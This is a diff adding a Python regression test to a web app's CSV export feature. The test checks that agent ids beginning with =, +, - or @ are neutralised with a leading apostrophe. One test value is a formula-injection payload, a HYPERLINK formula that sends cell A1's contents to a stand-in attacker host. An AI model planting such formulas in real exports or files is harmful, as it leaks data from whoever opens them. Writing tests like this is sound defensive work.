@@ -673,3 +673,53 @@ def test_export_filenames_follow_rfc_6266_whatever_the_ids(org: Any) -> None:
             assert unquote(star.removeprefix("filename*=UTF-8''")) == name
         assert c.get("/api/agents/agent-a1/export.csv").headers["content-disposition"] == (
             "attachment; filename=\"agent-a1.csv\"; filename*=UTF-8''agent-a1.csv")
+
+
+def test_a_csv_export_cannot_carry_a_spreadsheet_formula(org: Any) -> None:
+    """Agent ids are free text from the site's inventory: one that starts with =, +, - or @ went
+    into the CSV exports as is, a formula that a spreadsheet opening the file runs. Such a cell
+    now starts with an apostrophe (read as text); numbers are untouched."""
+    import csv
+    import io
+    from urllib.parse import quote
+
+    from miroir import wire
+
+    settings, data = org
+    hostile = ['=HYPERLINK("https:evil.example?"&A1,"x")', "+33 6 12 34 56 78", "-2+3",
+               "@SUM(1+1)"]
+    start = time.time() - 100
+    db = store.open_db(settings.db_path)
+    try:
+        for k, agent in enumerate(hostile):
+            schema.import_inventory(db, [{"box": "box-a2", "agent": agent, "team": "team-a"}],
+                                    site=settings.site, now=start + 10 * k)
+            store.insert_metrics(db, wire.decode("metrics", wire.encode("metrics", {
+                "v": wire.SCHEMA_VERSION, "site": settings.site, "box": "box-a2",
+                "ts": start + 10 * k + 5, "seq": 1000 + k, "t_start": 1.0, "window_s": 1.0,
+                "near_speech_ratio": 0.5, "far_speech_ratio": 0.1, "near_talking": True,
+                "far_talking": False, "talk_state": "agent"})), time.time())
+    finally:
+        db.conn.close()
+    with client(settings) as c:
+        login_as(c, "sup-a", data)
+        paths = ["/api/teams/team-a/export.csv",
+                 *("/api/agents/" + quote(a, safe="") + "/export.csv" for a in hostile)]
+        for path in paths:
+            r = c.get(path)
+            assert r.status_code == 200, path
+            rows = list(csv.reader(io.StringIO(r.text)))
+            cells = [cell for row in rows[1:] for cell in row]
+            assert cells and not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")], path
+            assert not [x for x in cells if x.startswith("-") and not _number(x)], path
+        team = list(csv.DictReader(io.StringIO(c.get(paths[0]).text)))
+    assert {"'" + a for a in hostile} <= {r["agent"] for r in team}
+    assert {r["agent"] for r in team} >= {"agent-a1"}
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
